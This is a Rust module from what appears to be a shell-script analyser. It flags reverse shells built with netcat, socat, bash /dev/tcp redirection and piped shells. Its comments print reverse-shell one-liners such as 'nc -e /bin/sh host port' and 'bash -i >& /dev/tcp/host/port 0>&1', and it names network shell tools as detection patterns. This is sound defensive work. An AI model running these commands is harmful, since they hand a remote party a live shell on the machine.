//! Shells whose input and output are put into a connection: whoever is at the other end types here.

use super::{Found, code_run};
use crate::effect::{Call, Effect};
use crate::syntax::{Feed, Invocation, Span, Word};

/// A shell, or a program that is asked to run one, at the end of a connection.
pub(super) fn read(call: Call<'_>, effects: &mut Vec<Effect>) {
    let invocation = call.invocation;
    let program = invocation.program();
    let found = match program {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => netcat(invocation),
        "socat" => socat(invocation),
        _ if is_shell(program) => shell(call),
        "exec" => opened(call),
        _ => None,
    };
    if let Some((peer, span)) = found {
        effects.push(code_run(Found::new("reverse-shell", peer, span), call));
    }
}

fn is_shell(program: &str) -> bool {
    matches!(
        program,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "fish" | "cmd.exe" | "powershell" | "pwsh"
    )
}

/// Whether a text runs a shell: `/bin/sh -i`.
pub(super) fn names_shell(text: &str) -> bool {
    let first =
        text.split([' ', ',', '<', '>', '&', '"', '\'']).find(|word| !word.is_empty()).unwrap_or_default();
    is_shell(first.rsplit('/').next().unwrap_or_default())
}

/// `nc -e /bin/sh host port`, `ncat --exec`, `nc -lvp 4444 -e /bin/bash`.
fn netcat(invocation: &Invocation) -> Option<(String, Span)> {
    let words = invocation.args();
    for (at, word) in words.iter().enumerate() {
        let text = word.text();
        let (option, attached) =
            text.split_once('=').map_or((text, None), |(option, value)| (option, Some(value)));
        let runs = match option.strip_prefix("--") {
            Some(name) => matches!(name, "exec" | "sh-exec" | "lua-exec"),
            None => option.starts_with('-') && option.ends_with(['e', 'c']),
        };
        let value = attached.or_else(|| words.get(at + 1).map(Word::text)).unwrap_or_default();
        if runs && names_shell(value) {
            return Some((peer(words), word.span));
        }
    }
    None
}

/// Host and port among the operands, for the sentence.
fn peer(words: &[Word]) -> String {
    let host = words.iter().map(Word::text).find(|text| {
        !text.starts_with('-')
            && !text.contains('/')
            && text.contains(|c: char| c.is_ascii_alphanumeric())
            && !is_shell(text)
            && text.parse::<u16>().is_err()
    });
    host.map_or_else(|| "whoever connects".to_owned(), str::to_owned)
}

/// `socat exec:'bash -li',pty tcp:host:4444`.
fn socat(invocation: &Invocation) -> Option<(String, Span)> {
    let words = invocation.args();
    let runs = words.iter().find(|word| {
        let text = word.text();
        let scheme = text.get(..text.find(':').unwrap_or(0)).unwrap_or_default();
        let command = text.get(scheme.len() + 1..).unwrap_or_default();
        matches!(scheme.to_ascii_lowercase().as_str(), "exec" | "system" | "shell") && names_shell(command)
    })?;
    let other = words.iter().find(|word| {
        let scheme = word.text().split(':').next().unwrap_or_default().to_ascii_lowercase();
        ["tcp", "udp", "openssl", "ssl", "sctp"].iter().any(|start| scheme.starts_with(start))
    })?;
    let peer = other.text().split_once(':').map_or("whoever connects", |(_, peer)| peer);
    Some((peer.to_owned(), runs.span))
}

/// `bash -i >& /dev/tcp/host/port 0>&1`, and `cat pipe | sh -i | nc host port > pipe`.
fn shell(call: Call<'_>) -> Option<(String, Span)> {
    let invocation = call.invocation;
    let words = invocation.args();
    let scripted = words.iter().any(|word| !word.text().starts_with('-') || word.text().contains('c'));
    if scripted {
        return None;
    }
    for redirect in &invocation.redirects {
        let text = redirect.target.text();
        if let Some(peer) = text.strip_prefix("/dev/tcp/").or_else(|| text.strip_prefix("/dev/udp/")) {
            return Some((peer.to_owned(), redirect.target.span));
        }
    }
    if let Feed::File(word) = &invocation.stdin
        && let Some(peer) = word.text().strip_prefix("/dev/tcp/")
    {
        return Some((peer.to_owned(), word.span));
    }
    let next = call.script.invocations.get(invocation.piped_to?)?;
    let connects = matches!(next.program(), "nc" | "ncat" | "netcat" | "socat" | "telnet")
        || next.program() == "openssl" && next.args().first().is_some_and(|word| word.text() == "s_client");
    connects.then(|| (peer(next.args()), invocation.span.to(next.span)))
}

/// `exec 5<>/dev/tcp/host/port` in a line that then runs what comes out of it.
fn opened(call: Call<'_>) -> Option<(String, Span)> {
    let redirect =
        call.invocation.redirects.iter().find(|redirect| redirect.target.text().starts_with("/dev/tcp/"))?;
    let runs = call.script.invocations.iter().take(64).any(|other| {
        is_shell(other.program())
            || other.program() == "eval"
            || other.program().starts_with(crate::syntax::HOLE)
    });
    let peer = redirect.target.text().trim_start_matches("/dev/tcp/");
    runs.then(|| (peer.to_owned(), redirect.target.span))
}
